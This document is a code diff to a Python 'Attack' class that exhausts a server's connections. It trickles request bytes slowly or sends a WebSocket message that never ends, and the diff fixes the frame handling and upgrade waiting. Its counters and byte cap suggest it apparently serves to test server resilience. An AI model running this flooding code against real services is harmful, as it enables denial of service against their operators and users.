@@ -29,6 +29,7 @@ class Attack:
         self.kind, self.port, self.connections, self.seconds = kind, port, connections, seconds
         self.selector = selectors.DefaultSelector()
         self.open: dict[socket.socket, int] = {}   # socket -> bytes of its trickle sent
+        self.unsent: dict[socket.socket, bytes] = {}   # the rest of a frame the socket did not take yet
         self.opened = self.closed_by_server = self.most_open = self.sent = 0
 
     def _head(self) -> bytes:
@@ -47,12 +48,13 @@ class Attack:
         connection.setblocking(False)
         connection.connect_ex((HOST, self.port))
         self.selector.register(connection, selectors.EVENT_WRITE)
-        self.open[connection] = -1   # the head is not sent yet
+        self.open[connection] = -1   # the head is not sent yet (-2: a WebSocket's head sent, its answer awaited)
         self.opened += 1
 
     def _gone(self, connection: socket.socket, by_server: bool = True) -> None:
         self.selector.unregister(connection)
         self.open.pop(connection, None)
+        self.unsent.pop(connection, None)
         connection.close()
         if by_server:
             self.closed_by_server += 1
@@ -61,11 +63,14 @@ class Attack:
         """One more piece: a byte of the body or the head, or a fragment of the never-ending message."""
         sent = self.open[connection]
         try:
-            if sent < 0:
+            if sent == -1:
                 connection.send(self._head())
+                # a WebSocket waits for the server's answer to its request (the first state comes with it)
+                self.open[connection] = -2 if self.kind == "fragments" else 0
+                return
+            if sent == -2:   # the first frame of a text message, not the last (FIN clear)
                 self.open[connection] = 0
-                if self.kind == "fragments":   # the first frame of a text message, not the last (FIN clear)
-                    self._frame(connection, 0x01)
+                self._frame(connection, 0x01)
                 return
             if self.kind == "fragments":
                 self._frame(connection, 0x00)
@@ -79,12 +84,17 @@ class Attack:
             self._gone(connection)
 
     def _frame(self, connection: socket.socket, opcode: int) -> None:
+        """Frames as long as the socket takes them; the rest of a frame cut short goes first next time."""
         payload = b"y" * 16000
-        frame = bytes([opcode, 0x80 | 126]) + len(payload).to_bytes(2, "big") + b"\0\0\0\0" + payload
         while self.sent < MOST_FRAGMENT_BYTES:
+            frame = self.unsent.pop(connection, None)
+            if frame is None:
+                frame = bytes([opcode, 0x80 | 126]) + len(payload).to_bytes(2, "big") + b"\0\0\0\0" + payload
+                opcode = 0x00   # the next ones continue the message
             sent = connection.send(frame)
             self.sent += sent
             if sent < len(frame):
+                self.unsent[connection] = frame[sent:]
                 return
 
     def run(self) -> dict[str, int]:
@@ -101,12 +111,14 @@ class Attack:
                     if connection.recv(65536) == b"":   # the server closed it
                         self._gone(connection)
                         continue
+                    if self.open.get(connection) == -2:
+                        self._trickle(connection)   # the server answered the upgrade: the flood starts
                 except (BlockingIOError, InterruptedError):
                     pass
                 except OSError:
                     self._gone(connection)
                     continue
-                if self.open.get(connection, 0) < 0:
+                if self.open.get(connection, 0) == -1:
                     self._trickle(connection)   # connected: the head goes now
                     if connection in self.open:
                         self.selector.modify(connection, selectors.EVENT_READ)
